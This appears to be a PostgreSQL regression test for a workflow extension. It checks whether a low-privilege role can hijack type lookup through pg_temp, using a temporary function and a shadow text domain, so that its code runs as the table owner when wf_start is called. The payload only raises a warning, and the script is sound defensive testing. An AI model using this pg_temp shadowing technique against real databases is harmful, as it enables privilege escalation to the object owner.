-- A participant with no right but EXECUTE runs code as the owner of the tables: types are looked up in pg_temp first.
CREATE ROLE regress_thief LOGIN;
SELECT wf_grant('regress_thief', 'participant');
SELECT current_user AS owner \gset
\c - regress_thief
CREATE FUNCTION pg_temp.steal(pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    RAISE WARNING 'run as %, superuser %', CASE WHEN current_user = session_user THEN 'myself' ELSE 'the owner' END, current_setting('is_superuser');
    RETURN true;
END $$;
CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.steal(VALUE));
SELECT o.applied FROM wf_start('lamp', 'thief', '{}') o;
\c - :owner
DROP OWNED BY regress_thief;
DROP ROLE regress_thief;
